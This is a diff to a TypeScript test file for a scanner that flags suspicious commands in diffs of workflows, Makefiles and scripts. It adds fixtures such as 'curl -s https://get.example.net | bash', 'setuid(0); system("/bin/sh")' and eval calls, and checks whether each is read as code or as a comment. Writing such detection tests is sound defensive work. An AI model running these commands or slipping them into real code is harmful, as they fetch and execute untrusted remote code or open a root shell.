@@ -12,7 +12,7 @@ const samples = join(import.meta.dirname, '../rules/workflow');
 const placesIn = (path: string, rule: string): readonly string[] =>
   [...scriptLines(markedDiff(path).change)].filter((found) => found.rule === rule).map(placeOf);
 
-describe.each(LINE_RULES.map(({ id }) => id))('%s', (id) => {
+describe.each([...new Set(LINE_RULES.map(({ id }) => id))])('%s', (id) => {
   it('is found on each marked line and on no other', () => {
     const path = join(samples, `${id}.hit.diff`);
     const { marked } = markedDiff(path);
@@ -36,8 +36,29 @@ it.each([
   ['src/Makefile', 1],
   ['docs/install.md', 0],
   ['src/a.ts', 0],
+  ['tools/get', 0],
 ])('reads the commands of %s: %i', (path, count) => {
   expect([...scriptLines(adding(path, 'curl -s https://get.example.net | bash'))]).toHaveLength(count);
+});
+
+it('takes a file without an ending for a script when its lines are a shell’s', () => {
+  const command = 'curl -s https://get.example.net | bash';
+  expect([...scriptLines(adding('tools/get', '#!/bin/sh', command))]).toHaveLength(1);
+  expect([...scriptLines(adding('tools/get', 'if [ -z "$1" ]; then exit; fi', command))]).toHaveLength(1);
+  expect([...scriptLines(adding('LICENSE', 'done', command))]).toHaveLength(0);
+});
+
+it.each([
+  ['a.rb', '::Kernel.eval(x)', 1],
+  ['a.rb', '# eval(x)', 0],
+  ['a.lua', '-- load(x)', 0],
+  ['a.php', '* eval($x);', 1],
+  ['a.php', ' * Never call eval($x) here', 0],
+  ['a.c', '--i; setuid(0); system("/bin/sh");', 1],
+  ['a.c', '#define GO setuid(0); system("/bin/sh");', 1],
+  ['a.c', '// setuid(0); system("/bin/sh");', 0],
+])('takes for a comment only what is one in its language: %s %s', (path, line, count) => {
+  expect([...scriptLines(adding(path, line))]).toHaveLength(count);
 });
 
 it('knows the keys above a line of a workflow, through blocks of text and lists', () => {
